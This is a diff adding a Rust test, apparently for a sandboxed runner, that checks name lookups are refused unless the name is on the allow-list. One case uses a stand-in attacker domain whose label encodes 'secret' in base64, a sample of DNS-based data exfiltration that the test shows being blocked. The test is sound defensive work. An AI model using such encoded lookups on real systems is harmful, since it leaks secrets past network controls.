@@ -353,6 +353,74 @@ fn tcp_only_to_allowed_hosts() {
     assert_eq!(seen.recv().unwrap(), "ping\n");
 }
 
+#[test]
+fn name_lookups_only_for_allowed_names() {
+    let tmp = tempfile::tempdir().unwrap();
+    let (port, seen) = tcp_server();
+    let allow = policy(tmp.path(), &[]);
+    let by_name = format!("localhost:{port}");
+
+    // The address "localhost" stands for is granted, but the name is not: the guest's lookup is
+    // refused before any query is made (a lookup is traffic of its own), so it never connects.
+    let o = run(&[
+        "run",
+        &fixture("tcp-client"),
+        "--policy",
+        &allow,
+        "--allow-host",
+        &format!("127.0.0.1:{port}"),
+        "--",
+        &by_name,
+    ]);
+    assert_eq!(code(&o), 1, "{}", text(&o.stderr));
+    let err = text(&o.stderr);
+    assert!(
+        err.contains("a name lookup of \"localhost\" was denied: not in the --allow-host list"),
+        "{err}"
+    );
+    // A name that would carry data to whoever answers for its domain.
+    let o = run(&[
+        "run",
+        &fixture("tcp-client"),
+        "--policy",
+        &allow,
+        "--allow-host",
+        &by_name,
+        "--",
+        &format!("c2VjcmV0.attacker.example:{port}"),
+    ]);
+    assert_eq!(code(&o), 1, "{}", text(&o.stderr));
+    assert!(
+        text(&o.stderr).contains("a name lookup of \"c2VjcmV0.attacker.example\" was denied"),
+        "{}",
+        text(&o.stderr)
+    );
+    assert!(
+        seen.try_recv().is_err(),
+        "no connection may have reached the server"
+    );
+
+    // Granted by name: the lookup goes through and the connection reaches the server.
+    let o = run(&[
+        "run",
+        &fixture("tcp-client"),
+        "--policy",
+        &allow,
+        "--allow-host",
+        &by_name,
+        "--",
+        &by_name,
+    ]);
+    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
+    assert_eq!(text(&o.stdout), "pong\n");
+    assert_eq!(seen.recv().unwrap(), "ping\n");
+    assert!(
+        !text(&o.stderr).contains("name lookup"),
+        "{}",
+        text(&o.stderr)
+    );
+}
+
 /// A one-response-per-connection HTTP/1.1 server that echoes the request path in its body.
 fn http_server() -> (u16, std::sync::mpsc::Receiver<String>) {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
